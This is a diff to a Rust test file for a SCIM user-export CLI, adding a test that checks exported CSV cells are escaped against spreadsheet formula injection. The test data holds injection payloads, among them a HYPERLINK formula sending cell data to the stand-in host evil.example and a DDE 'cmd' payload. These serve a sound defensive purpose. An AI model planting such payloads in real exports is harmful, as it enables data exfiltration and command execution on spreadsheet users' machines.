@@ -14,7 +14,7 @@ fn export_writes_every_user_in_the_people_file_format() {
             "userName,displayName,externalId,active,title,department,division,employeeNumber,email,phone,manager,groups",
             "admin@example.com,Admin,,true,,,,,,,,Support",
             "bob@example.com,Bob Boss,E-2,true,Manager,,EMEA,,,,,",
-            "jane@example.com,Jane Doe,E-1,true,Agent,Support,EMEA,0042,jane@example.com,+15550100,bob@example.com,Support",
+            "jane@example.com,Jane Doe,E-1,true,Agent,Support,EMEA,0042,jane@example.com,'+15550100,bob@example.com,Support",
             "old@example.com,Old Timer,E-3,false,,,,,,,,",
         ]
     );
@@ -163,4 +163,81 @@ fn a_user_without_a_usable_user_name_is_still_written_and_fails_the_export() {
     let path = temp_file("padded.csv");
     std::fs::write(&path, &r.stdout).unwrap();
     assert_eq!(run(scim().arg("check").arg(&path)).code, 2);
+}
+
+#[test]
+fn csv_exports_are_spreadsheet_safe_and_read_back_the_same() {
+    let org = org();
+    let formula = r#"=HYPERLINK("http://evil.example/?d="&A2,"open")"#;
+    seed(
+        &org.server,
+        json!({"userName": "formula@example.com", "displayName": formula, "externalId": "E-9",
+        "title": "+cmd|' /C calc'!A0",
+        "phoneNumbers": [{"value": "+15550199", "type": "work"}],
+        "urn:ietf:params:scim:schemas:extension:enterprise:2.0:User": {
+            "department": "@SUM(1+1)", "division": "-EMEA", "employeeNumber": "\t0042"
+        }}),
+    );
+    seed(
+        &org.server,
+        json!({"userName": "quote@example.com", "displayName": "'=A1", "externalId": "E-10",
+               "title": "'Connor",
+               "urn:ietf:params:scim:schemas:extension:enterprise:2.0:User": {"department": "\rCR"}}),
+    );
+    let r = on(&org.server, &["export", "users"]);
+    assert_eq!(r.code, 0, "{r:?}");
+    let mut reader = csv::Reader::from_reader(r.stdout.as_bytes());
+    let headers = reader.headers().unwrap().clone();
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    let cell = |user: &str, column: &str| -> String {
+        let at = headers.iter().position(|h| h == column).unwrap();
+        let row = rows.iter().find(|r| &r[0] == user).unwrap();
+        row[at].to_owned()
+    };
+    // A spreadsheet shows these as text, not as formulas or numbers.
+    assert_eq!(
+        cell("formula@example.com", "displayName"),
+        format!("'{formula}")
+    );
+    assert_eq!(cell("formula@example.com", "title"), "'+cmd|' /C calc'!A0");
+    assert_eq!(cell("formula@example.com", "department"), "'@SUM(1+1)");
+    assert_eq!(cell("formula@example.com", "division"), "'-EMEA");
+    assert_eq!(cell("formula@example.com", "employeeNumber"), "'\t0042");
+    assert_eq!(cell("formula@example.com", "phone"), "'+15550199");
+    assert_eq!(cell("jane@example.com", "phone"), "'+15550100");
+    assert_eq!(cell("quote@example.com", "department"), "'\rCR");
+    // A leading `'` is doubled only where reading would drop it.
+    assert_eq!(cell("quote@example.com", "displayName"), "''=A1");
+    assert_eq!(cell("quote@example.com", "title"), "'Connor");
+    for row in &rows {
+        for value in row {
+            assert!(
+                !value.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{value:?} in {row:?}"
+            );
+        }
+    }
+    // Reading the file back gives the org's values: nothing to change.
+    let path = temp_file("formulas.csv");
+    std::fs::write(&path, &r.stdout).unwrap();
+    org.server.clear_journal();
+    let plan = on(
+        &org.server,
+        &[
+            "sync",
+            "plan",
+            "--scope",
+            "all",
+            "--from",
+            path.to_str().unwrap(),
+        ],
+    );
+    assert_eq!(plan.code, 0, "{plan:?}");
+    assert!(
+        plan.stdout
+            .contains("Nothing to do: the org already matches the file"),
+        "{}",
+        plan.stdout
+    );
+    assert!(requests(&org.server).iter().all(|r| r.starts_with("GET")));
 }
